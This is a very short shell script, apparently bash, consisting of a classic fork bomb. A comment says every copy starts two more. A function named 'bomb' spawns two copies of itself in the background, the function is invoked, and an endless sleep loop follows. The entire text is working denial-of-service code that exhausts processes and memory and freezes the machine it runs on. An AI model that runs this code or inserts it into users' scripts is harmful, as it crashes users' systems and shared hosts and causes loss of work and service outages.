# The one that everybody knows: every copy starts two more.
bomb() { bomb | bomb & }
bomb
while :; do sleep 0.05; done
